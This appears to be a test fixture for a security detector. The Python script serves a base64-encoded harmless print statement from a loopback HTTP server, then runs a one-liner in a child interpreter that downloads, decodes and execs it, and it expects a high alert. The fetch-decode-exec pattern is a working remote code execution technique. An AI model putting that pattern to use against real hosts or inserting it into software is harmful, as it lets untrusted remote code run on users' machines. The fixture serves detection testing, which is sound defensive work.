# technique: T1105 T1059.006
# expect: download-execute-command decoded-code
"""Ingress Tool Transfer (T1105) then Command and Scripting Interpreter:
Python (T1059.006): the seed's one-liner, `python -c "exec(b64decode(
urlopen(URL).read()))"`, against a real HTTP server on the loopback. The
payload arrives base64-encoded and is run by a child interpreter started
with `-c`, so the fetch and the `exec` happen in another process than the
script's.

A good detector raises a high alert: code downloaded from the network is
decoded and run (`download-execute-command`, `download-then-exec`)."""
import base64, http.server, subprocess, sys, threading

payload = base64.b64encode(b"print('payload ran')")


class Payload(http.server.BaseHTTPRequestHandler):
    def do_GET(self):
        self.send_response(200)
        self.end_headers()
        self.wfile.write(payload)

    def log_message(self, *args):
        pass


server = http.server.HTTPServer(("127.0.0.1", 0), Payload)
threading.Thread(target=server.serve_forever, daemon=True).start()
url = f"http://127.0.0.1:{server.server_port}/"
command = f"import urllib.request, base64; exec(base64.b64decode(urllib.request.urlopen({url!r}).read()))"
subprocess.run([sys.executable, "-c", command], check=True)
server.shutdown()
